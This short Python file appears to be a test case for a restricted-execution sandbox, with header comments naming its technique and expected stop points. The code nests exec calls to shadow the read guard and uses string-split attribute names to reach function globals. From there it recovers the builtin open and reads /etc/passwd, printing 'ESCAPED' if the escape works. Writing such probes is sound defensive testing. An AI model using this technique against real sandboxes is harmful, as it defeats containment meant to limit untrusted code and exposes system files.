# tries: exec inside exec, in the dict of the outer text
# class: shadowing
# stops: 1 2 3 4
import fractions


def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def dig(function):
    space = getattr(function, "__glo" + "bals__")
    print("REACHED")
    return space["__builtins__"]["open"]


def guard(receiver, name=None):
    print("REACHED")
    return receiver


space = {"p": fractions.Fraction.numerator, "guard": guard}
exec("exec('found = p.fget', {'_re' + 'ad_': guard, 'p': p}, out)",
     {**space, "out": space})
use(dig(space["found"]))
